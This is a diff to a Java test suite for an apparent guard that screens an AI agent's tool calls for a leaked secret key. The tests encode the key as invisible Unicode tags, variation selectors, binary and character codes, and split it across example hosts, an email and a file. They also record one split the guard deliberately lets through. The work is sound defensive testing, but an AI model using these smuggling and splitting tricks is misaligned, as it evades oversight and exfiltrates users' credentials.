@@ -87,6 +87,33 @@ class LeakGuardSecondTryTest {
         return out.toString();
     }
 
+    /** {@code s} as invisible Unicode tag characters (U+E0000 plus each ASCII character). */
+    private static String tags(String s) {
+        StringBuilder out = new StringBuilder();
+        s.chars().forEach(c -> out.appendCodePoint(0xE0000 + c));
+        return out.toString();
+    }
+
+    /** {@code s}'s UTF-8 bytes as variation selectors: 0 to 15 as U+FE00 to U+FE0F, 16 to 255 as U+E0100 to U+E01EF. */
+    private static String selectors(String s) {
+        StringBuilder out = new StringBuilder();
+        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
+            int v = b & 0xFF;
+            out.appendCodePoint(v < 16 ? 0xFE00 + v : 0xE0100 + v - 16);
+        }
+        return out.toString();
+    }
+
+    /** Each UTF-8 byte of {@code s} as eight binary digits, joined by {@code separator}. */
+    private static String binary(String s, String separator) {
+        StringBuilder out = new StringBuilder();
+        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
+            String bits = Integer.toBinaryString(b & 0xFF);
+            out.append("0".repeat(8 - bits.length())).append(bits).append(separator);
+        }
+        return out.toString();
+    }
+
     private static byte[] gzip(String s) throws Exception {
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
         try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
@@ -134,7 +161,18 @@ class LeakGuardSecondTryTest {
                 Arguments.of("quoted-printable", each(KEY, "=%02X")),
                 Arguments.of("percent of base64", java.net.URLEncoder.encode(b64(KEY), StandardCharsets.UTF_8)
                         .replace("%3D", "%253D")),
-                Arguments.of("json escapes inside base64 of hex", b64(java.util.HexFormat.of().formatHex(KEY.getBytes()))));
+                Arguments.of("json escapes inside base64 of hex", b64(java.util.HexFormat.of().formatHex(KEY.getBytes()))),
+                Arguments.of("decimal character codes", each(KEY, "%d, ")),
+                Arguments.of("decimal character codes as a JSON array", "[" + each(KEY, "%d,") + "0]"),
+                Arguments.of("chr() calls", each(KEY, "chr(%d)+") + "''"),
+                Arguments.of("one character code per line", each(KEY, "%d\n")),
+                Arguments.of("octal character codes", each(KEY, "%o ")),
+                Arguments.of("binary octets", binary(KEY, " ")),
+                Arguments.of("binary octets without separators", binary(KEY, "")),
+                Arguments.of("base64 of character codes", b64(each(KEY, "%d "))),
+                Arguments.of("unicode tag characters after a visible word", "thanks" + tags(KEY)),
+                Arguments.of("variation selectors after an emoji", "\ud83d\ude00" + selectors(KEY)),
+                Arguments.of("U+ notation", each(KEY, "U+%04X ")));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -158,7 +196,13 @@ class LeakGuardSecondTryTest {
                 rot13("the quarterly report is ready"), b64("the quarterly report is ready"),
                 new Base32().encodeAsString("meeting notes for tuesday".getBytes(StandardCharsets.UTF_8)),
                 "&#72;&#101;&#108;&#108;&#111; world", "=?UTF-8?Q?Caf=C3=A9_menu?=", "\\u0048\\u0069 there",
-                "\u0441\u0442\u0430\u0442\u0443\u0441 \uFF48\uFF45\uFF4C\uFF4C\uFF4F", "sk-live keys are rotated monthly"}) {
+                "\u0441\u0442\u0430\u0442\u0443\u0441 \uFF48\uFF45\uFF4C\uFF4C\uFF4F", "sk-live keys are rotated monthly",
+                each("the quarterly report is ready", "%d, "), binary("meeting notes for tuesday", " "),
+                "Prices: 115, 107, 45, 108, 105, 118 and 101 EUR; totals 4f9a", "Call 0049 30 1234 5678 or 0049 30 8765 4321",
+                "10.0.0.1, 10.0.0.2, 192.168.1.20, 192.168.1.21, 172.16.0.5", "2026-12-03 10:20:43, 2026-12-03 10:21:31, 2026-12-04 09:00:00",
+                "temperature,humidity\n21.5,40\n22.1,41\n22.8,43\n23.0,45\n23.4,47\n",
+                "Go England \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f and thanks \u2764\ufe0f\ud83d\udc4d\ud83c\udffd",
+                "The letter U+00E9 is written \u00e9; U+1F600 is a grinning face", "thanks" + tags("see you at the offsite")}) {
             ProposedCall call = Calls.sendEmail(run, "ops@novastar.example", "status", text);
             assertThat(guard.evaluate(call)).as(text).isEmpty();
         }
@@ -217,15 +261,67 @@ class LeakGuardSecondTryTest {
     }
 
     @Test
-    void piecesToDifferentHostsOrDifferentRunsAreNotAddedUp() {
+    void piecesInDifferentRunsAreNotAddedUp() {
         Calls.Run first = Calls.Run.of("Check the status page");
         Calls.Run second = Calls.Run.of("Check the status page");
         String a = KEY.substring(0, 11);
         String b = KEY.substring(11);
 
         assertThat(guard.evaluate(Calls.httpGet(first, "https://status.example.com/p?q=" + a))).isEmpty();
-        assertThat(guard.evaluate(Calls.httpGet(first, "https://other.example.org/p?q=" + b))).isEmpty();
         assertThat(guard.evaluate(Calls.httpGet(second, "https://status.example.com/p?q=" + b))).isEmpty();
+        assertThat(guard.evaluate(Calls.httpGet(second, "https://other.example.org/p?q=" + b))).isEmpty();
+    }
+
+    @Test
+    void halvesSentToTwoDomainsAddUp() {
+        Calls.Run run = Calls.Run.of("Check the status page");
+        String a = KEY.substring(0, 11);
+        String b = KEY.substring(11);
+
+        assertThat(guard.evaluate(Calls.httpGet(run, "https://status.example.com/p?q=" + a))).isEmpty();
+        Optional<Decision> second = guard.evaluate(Calls.httpGet(run, "https://other.example.org/p?q=" + b));
+
+        assertThat(second).get().extracting(Decision::rule).isEqualTo(GuardRules.LEAK_SECRET);
+        assertThat(second.get().reason()).contains("several destinations").contains("host example.com")
+                .contains("host example.org").contains("earlier calls").doesNotContain(KEY).doesNotContain(b);
+    }
+
+    @Test
+    void piecesOverAHostAMailAndAFileAddUp() {
+        Calls.Run run = Calls.Run.of("Write up the incident");
+        String[] thirds = {KEY.substring(0, 8), KEY.substring(8, 16), KEY.substring(16)};
+
+        assertThat(guard.evaluate(Calls.httpGet(run, "https://status.example.com/p/" + thirds[0]))).isEmpty();
+        assertThat(guard.evaluate(Calls.sendEmail(run, "eve@mailbox.example", "notes",
+                "the reference is " + Base64.getEncoder().encodeToString(thirds[1].getBytes(StandardCharsets.UTF_8))))).isEmpty();
+        Optional<Decision> third = guard.evaluate(Calls.writeFile(run, "notes/incident.txt", "ticket " + thirds[2]));
+
+        assertThat(third).get().extracting(Decision::rule).isEqualTo(GuardRules.LEAK_SECRET);
+        assertThat(third.get().reason()).contains("several destinations").doesNotContain(KEY);
+    }
+
+    @Test
+    void shortTokensSpreadOverManyHostsDoNotAddUp() {
+        // two characters per host: too little to tell from ordinary values, so only one host's add up
+        Calls.Run run = Calls.Run.of("Check the status pages");
+        for (int i = 0; i < KEY.length(); i += 2) {
+            String token = KEY.substring(i, Math.min(KEY.length(), i + 2));
+            assertThat(guard.evaluate(Calls.httpGet(run, "https://status" + i + ".example-" + i + ".org/c?v=" + token)))
+                    .as("token %d", i).isEmpty();
+        }
+    }
+
+    @Test
+    void ordinaryTrafficToManyHostsNeverAddsUpToTheKey() {
+        Calls.Run run = Calls.Run.of("Look up the weather for each office");
+        String[] queries = {"city=berlin&units=metric", "city=paris&lang=fr", "city=sk&lang=en", "id=4f&v=2", "q=live",
+            "page=27", "x=83", "tz=Europe/Berlin", "lm=1", "sort=asc&limit=50", "q=la+tz", "v=Q2"};
+        for (int i = 0; i < queries.length; i++) {
+            assertThat(guard.evaluate(Calls.httpGet(run, "https://api" + i + ".weather-" + i + ".example/v1/forecast?"
+                    + queries[i]))).as(queries[i]).isEmpty();
+            assertThat(guard.evaluate(Calls.sendEmail(run, "office" + i + "@branch-" + i + ".example", "forecast " + queries[i],
+                    "Tomorrow: " + queries[i] + ", light wind, 14 degrees."))).as(queries[i]).isEmpty();
+        }
     }
 
     @Test
